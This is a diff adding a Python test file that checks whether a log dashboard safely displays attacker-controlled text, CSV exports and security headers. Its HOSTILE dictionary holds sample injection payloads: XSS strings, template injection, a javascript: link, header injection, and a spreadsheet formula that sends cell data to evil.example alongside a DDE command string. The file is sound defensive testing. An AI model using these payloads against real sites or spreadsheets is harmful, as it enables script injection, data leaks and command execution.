@@ -1,0 +1,251 @@
+"""Anyone on the internet can write into these logs. What they write is shown, and is never anything but text."""
+
+from __future__ import annotations
+
+import json
+from datetime import timedelta
+
+import pytest
+
+from logsync.models import Account, ApiToken, IdentityProvider, Log, PersonAtApp, Stream, SyncRun
+from tests.conftest import NOW
+from tests.dashboard.reading import Page, page_of, records_of
+from tests.dashboard.test_fields import LOGINS, SCIM
+
+HARMLESS = "a@b"
+HOSTILE = {
+    "element": "<script>alert(1)</script>@<img src=x onerror=alert(1)>",
+    "attribute": "\"'><b>x</b>@ onmouseover=alert(1) style=color:red x=\"'`",
+    "closing": "</td></tr></table></pre></bdi></script></style></title></textarea>@--><!--",
+    "template": "{{ request.user.password }}{% debug %}@{# #}",
+    "entity": "&lt;script&gt;&amp;&#60;b&#62;@&quot;",
+    "link": "javascript:alert(1)//@data:text/html,<script>",
+    "direction": "\u202e\u2066moc.live@\u202dgnp.exe\u2028",
+    "lines": "a\r\nSet-Cookie: x=1\n\n@<b>\t",
+    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")@+cmd|\' /C calc\'!A0',
+    "long": "@" + "<b>😀\u202e" * 2_500,
+    "query": "?open=1&after=x#y@%00%3Cb%3E;a=b",
+}
+in_both_logs = pytest.mark.parametrize("log", [LOGINS, SCIM], ids=["logins", "scim"])
+
+
+def everything_of(log):
+    return f"{log.page}?{log.anything}&columns=" + ",".join(log.table.base_columns)
+
+
+@pytest.fixture
+def row(account):
+    """A row with a text in every field, in every column, and in a field that nobody knows yet."""
+
+    def make(log, text):
+        return log.make(account=account, extra={"news": text, text: [text]}, **dict.fromkeys(log.texts, text))
+
+    return make
+
+
+@pytest.fixture
+def page(signed_in):
+    return lambda path, **query: page_of(signed_in.get(path, query))
+
+
+@in_both_logs
+def test_rows_change_nothing_around_them_in_a_list(log, row, page, monkeypatch):
+    # Facets have a line for each value that differs.
+    monkeypatch.setattr("dashboard.lists.views.facets_of", lambda *_: None)
+    harmless = [row(log, HARMLESS) for _ in HOSTILE]
+    skeleton = page(everything_of(log)).skeleton
+    log.model.objects.filter(pk__in=[one.pk for one in harmless]).delete()
+    for text in HOSTILE.values():
+        row(log, text)
+    shown = page(everything_of(log))
+    assert shown.skeleton == skeleton
+    assert all(text in "".join(shown.whole.pieces) for text in HOSTILE.values())
+
+
+@in_both_logs
+def test_values_in_facets_are_never_markup(log, row, page):
+    row(log, HARMLESS)
+    known = set(page(everything_of(log)).skeleton)
+    for text in HOSTILE.values():
+        row(log, text)
+    shown = page(everything_of(log))
+    assert set(shown.skeleton) <= known
+    assert shown.misplaced == []
+
+
+@in_both_logs
+@pytest.mark.parametrize("headers", [{}, {"HX-Request": "true"}], ids=["own page", "htmx"])
+def test_an_event_changes_nothing_around_it(log, headers, row, signed_in):
+    def page(text):
+        return page_of(signed_in.get(row(log, text).get_absolute_url(), headers=headers))
+
+    skeleton = page(HARMLESS).skeleton
+    for name, text in HOSTILE.items():
+        shown = page(text)
+        assert shown.skeleton == skeleton, name
+        assert text in "".join(shown.whole.pieces)
+
+
+def test_a_request_body_changes_nothing_around_it(make_update, page):
+    # Without an id there is no history, in which the others would show.
+    bodies = {name: json.dumps({"a": text}) for name, text in [("harmless", HARMLESS), *HOSTILE.items()]}
+    updates = {
+        name: make_update(request_body=body, cf_resource_id="", idp_resource_id="") for name, body in bodies.items()
+    }
+    skeleton = page(updates["harmless"].get_absolute_url()).skeleton
+    for name, text in HOSTILE.items():
+        shown = page(updates[name].get_absolute_url())
+        assert shown.skeleton == skeleton, name
+        assert json.dumps(text) in "".join(shown.whole.pieces)
+
+
+def test_the_names_of_applications_change_nothing_around_them(make_login, page):
+    harmless = [make_login(app_name=HARMLESS, app_uid=name) for name in HOSTILE]
+    skeleton = page("/logins/by-app/").skeleton
+    for login in harmless:
+        login.delete()
+    PersonAtApp.objects.all().delete()
+    for text in HOSTILE.values():
+        # An id that begins or ends with a blank, or is longer, has no address, and so no links.
+        make_login(app_name=text, app_uid=text.strip()[:200].strip())
+    shown = page("/logins/by-app/")
+    assert shown.skeleton == skeleton
+    assert all(text in "".join(shown.whole.pieces) for text in HOSTILE.values())
+
+
+@pytest.fixture
+def directory(db):
+    """Name everything that has a name, and say a text wherever something went wrong."""
+    token = ApiToken.objects.create(fingerprint="a", blocked_until=NOW + timedelta(minutes=4))
+    account = Account.objects.create(account_id="1" * 32, api_token=token)
+    application = account.applications.create(app_uid="a")
+    idp = IdentityProvider.objects.create(account=account, idp_id="okta", scim_enabled=True)
+    stream = Stream.objects.create(
+        account=account, log=Log.SCIM_UPDATES, idp_id="okta", backfill_since=NOW, error_since=NOW
+    )
+    # One that has holes, a race with retention, a backfill and rows that come late, and no error to hide them.
+    idp_of_other = IdentityProvider.objects.create(account=account, idp_id="entra", scim_enabled=True)
+    other = Stream.objects.create(
+        account=account, log=Log.SCIM_UPDATES, idp_id="entra", backfill_since=NOW - timedelta(days=5)
+    )
+    failed = other.failed_ranges.create(
+        since=NOW - timedelta(days=5), until=NOW - timedelta(days=2), failed_at=NOW, retry_at=NOW
+    )
+    asked = other.asked_ranges.create(since=NOW - timedelta(days=9), until=NOW - timedelta(days=8), asked_at=NOW)
+    other.lateness_counts.create(day=NOW.date(), seconds=5000, count=100)
+    run = SyncRun.objects.create(stream=stream, started_at=NOW, since=NOW, until=NOW, outcome=SyncRun.Outcome.FAILED)
+
+    def say(text):
+        account.name = account.providers_error = account.applications_error = text
+        application.name = idp.name = idp_of_other.name = stream.error = run.error = failed.error = token.error = text
+        token.name, asked.asked_by = text[:64], text[:150]
+        for said in (account, application, idp, idp_of_other, stream, run, failed, token, asked):
+            said.save()
+
+    return say
+
+
+@pytest.mark.parametrize("path", ["/sync/", "/logins/", "/scim/"])
+def test_the_directory_changes_nothing_around_it(path, directory, page):
+    directory(HARMLESS)
+    skeleton = page(path).skeleton
+    for name, text in HOSTILE.items():
+        directory(text)
+        shown = page(path)
+        assert shown.skeleton == skeleton, name
+        assert text in "".join(shown.whole.pieces)
+
+
+@pytest.mark.parametrize("path", ["/logins/", "/logins/by-app/", "/scim/", "/sync/"])
+@pytest.mark.parametrize(
+    "name", ["q", "app_uid", "idp_id", "account", "stream", "day", "head", "range", "columns", "sort", "colour"]
+)
+def test_an_address_changes_nothing_on_its_page(path, name, make_login, make_update, page):
+    make_login()
+    make_update()
+    hostile = HOSTILE["element"] + HOSTILE["attribute"] + HOSTILE["closing"] + HOSTILE["template"]
+    assert page(path, **{name: hostile}).skeleton == page(path, **{name: "xx"}).skeleton
+
+
+@in_both_logs
+def test_every_cell_of_an_export_holds_its_text_and_no_formula(log, row, signed_in):
+    for text in HOSTILE.values():
+        one = row(log, text)
+        [record] = records_of(signed_in.get(f"{log.export}?{log.anything}"))
+        assert {record[name] for name in log.texts} <= {text, f"'{text}"}
+        assert not record[log.texts[0]].lstrip().startswith(("=", "+", "-", "@"))
+        assert json.loads(record["extra"]) == {"news": text, text: [text]}
+        one.delete()
+
+
+def isolated(page: Page, mark: str) -> int:
+    """How often a mark stands where it cannot reach beyond: isolated, or where a browser isolates by itself."""
+    return sum(
+        "".join(element.pieces).count(mark)
+        for element in page.elements
+        if element.tag in ("bdi", "option") or element.attrs.get("dir") == "ltr"
+    )
+
+
+@in_both_logs
+def test_marks_that_turn_the_writing_direction_reach_nothing_around_them(log, row, signed_in):
+    one = row(log, "\u202e")
+    page = page_of(signed_in.get(f"{everything_of(log)}&open={one.key.hex}&q=%E2%80%AE"))
+    assert page.text.count("\u202e") == isolated(page, "\u202e") > 20
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/logins/by-app/", "/sync/", "/sync/?stream=%E2%80%AE", "/logins/?colour=%E2%80%AE", "/logins/?user_email=nobody"],
+)
+def test_nor_on_the_other_pages(path, account, make_login, make_stream, fail, signed_in):
+    Account.objects.update(name="\u202e")
+    make_login(app_name="\u202e", app_uid="\u202e")
+    ApiToken.objects.create(fingerprint="a", name="\u202e", error="\u202e")
+    make_stream(error="\u202e", error_since=NOW)
+    fail(make_stream(Log.SCIM_UPDATES, "\u202e"), NOW - timedelta(days=3), NOW, error="\u202e")
+    page = page_of(signed_in.get(path))
+    assert page.text.count("\u202e") == isolated(page, "\u202e") > 0
+
+
+# What the browser is told to do with all this
+
+
+PAGES = ["/logins/", "/logins/?q=<script>", "/logins/?range=5y", "/logins/by-app/", "/scim/", "/sync/", "/nowhere/"]
+
+
+@pytest.mark.parametrize("path", [*PAGES, "/logins.csv", "/logins.csv?range=5y", "/sign-in/", "/healthz"])
+def test_every_answer_forbids_whatever_is_inline(path, make_login, signed_in):
+    make_login()
+    policy = signed_in.get(path)["Content-Security-Policy"]
+    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
+    assert directives["default-src"] == "'none'"
+    assert directives["script-src"] == directives["style-src"] == "'self'"
+    assert directives["base-uri"] == directives["frame-ancestors"] == "'none'"
+    assert "unsafe" not in policy
+
+
+@pytest.mark.parametrize("path", [*PAGES, "/sign-in/", "{login}", "{update}", "/logins/?open={key}"])
+def test_no_page_has_a_script_a_style_or_a_handler_of_its_own(path, make_login, make_update, make_stream, signed_in):
+    make_stream(error="x", error_since=NOW, retry_at=NOW + timedelta(hours=1))
+    login, update = make_login(), make_update()
+    urls = {"login": login.get_absolute_url(), "update": update.get_absolute_url(), "key": login.key.hex}
+    if path == "/sign-in/":
+        signed_in.logout()
+    page = page_of(signed_in.get(path.format(**urls)))
+    assert page.elements
+    assert not page.misplaced
+    assert not page.all("style")
+    assert all(script.attrs.get("src") and not script.text for script in page.all("script"))
+    names = {name for element in page.elements for name in element.attrs}
+    assert not {name for name in names if name == "style" or name.startswith(("on", "hx-on"))}
+    assert all(not link.href or link.href[0] in "/?#" for link in page.elements)
+
+
+@pytest.mark.parametrize(
+    ("header", "value"),
+    [("X-Content-Type-Options", "nosniff"), ("X-Frame-Options", "DENY"), ("Referrer-Policy", "same-origin")],
+)
+def test_no_answer_is_guessed_at_framed_or_told_about(header, value, account, signed_in):
+    for path in ("/logins/", "/logins.csv", "/sign-in/"):
+        assert signed_in.get(path)[header] == value
